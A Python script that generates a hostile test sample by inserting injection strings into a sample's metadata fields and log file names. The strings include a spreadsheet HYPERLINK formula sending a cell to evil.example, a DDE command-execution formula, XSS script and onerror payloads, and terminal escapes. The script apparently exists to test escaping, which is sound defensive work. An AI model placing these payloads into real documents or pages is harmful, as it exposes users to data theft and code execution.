"""Makes a hostile sample: one text replaces every name that an outsider can choose."""

import gzip
import json
from pathlib import Path

TEXTS = [
    # A formula, for spreadsheets.
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3, \"quoted\"; 'single'",
    # Mentions and links, for Slack and GitHub.
    "@channel <!channel> <!here> <@U0123456> <http://evil.example|click> @octocat *bold* _it_ `code`",
    "see #12, GH-12, owner/repo#1, https://evil.example/ www.evil.example a@evil.example ftp://evil.example/",
    # Markdown and HTML.
    "](http://evil.example) ![x](http://evil.example/x.png) [y]: z <img src=x onerror=alert(1)> <b>b</b>",
    "</details></summary><script>alert(1)</script> <!-- x --> $x$ ~~~ ***b*** &lt;i&gt; | a | b | \\| c `` ` ```",
    "# heading",
    "1. item",
    "- item\n\n| a | b |\n|---|---|\n\n# heading\n\n```\ncode\n```\n\n    indented\n",
    # Delimiters of XML, CSV and JSON.
    "]]> <![CDATA[ <!ENTITY x> &amp; &#0; \"quoted\" 'single' \\\" \r\n,,,\r\n1,2,3",
    # Terminal escapes, invisible characters, characters that XML forbids, and line ends that only some programs recognise.
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00\x08\x0b\x7f\x85\x9b2J\u2028\u2029\u202e\u200b\ufeff\ufffe\uffff\U000e0041\U0001f600",
]
# Keys whose values are chosen by the person who starts a task or creates a resource.
CHOSEN = {"group", "serviceName", "stoppedReason"}


def spoil(sample: Path, evil: str, folder: Path) -> Path:
    """Copies a sample, and puts the text into its metadata and into the names of its logs."""
    (folder / "metadata").mkdir(parents=True)
    (folder / "logs").mkdir()
    for path in sorted(sample.glob("metadata/*.json")):
        document = spoiled(json.loads(path.read_bytes()), evil)
        (folder / "metadata" / path.name).write_text(json.dumps(document), encoding="utf-8")
    for number, path in enumerate(sorted(path for path in sample.glob("logs/**/*") if path.is_file())):
        # A file name can contain every character except these two.
        name = evil.replace("/", "\u2215").replace("\0", "") + f"{number}.log"
        (folder / "logs" / name).write_bytes(gzip.decompress(path.read_bytes()))
    return folder


def spoiled(value: object, evil: str) -> object:
    if isinstance(value, list):
        return [spoiled(item, evil) for item in value]
    if not isinstance(value, dict):
        return value
    return {key: chosen(key, item, evil) if isinstance(item, str) else spoiled(item, evil) for key, item in value.items()}


def chosen(key: str, value: str, evil: str) -> str:
    if key == "group":
        return f"service:{evil}"
    if key == "taskArn":
        # The id of the task stays in the text, so that ids differ.
        start, task = value.rsplit("/", 1)
        return f"{start}/{evil.replace('/', '')}{task}"
    return evil + value if key in CHOSEN else value
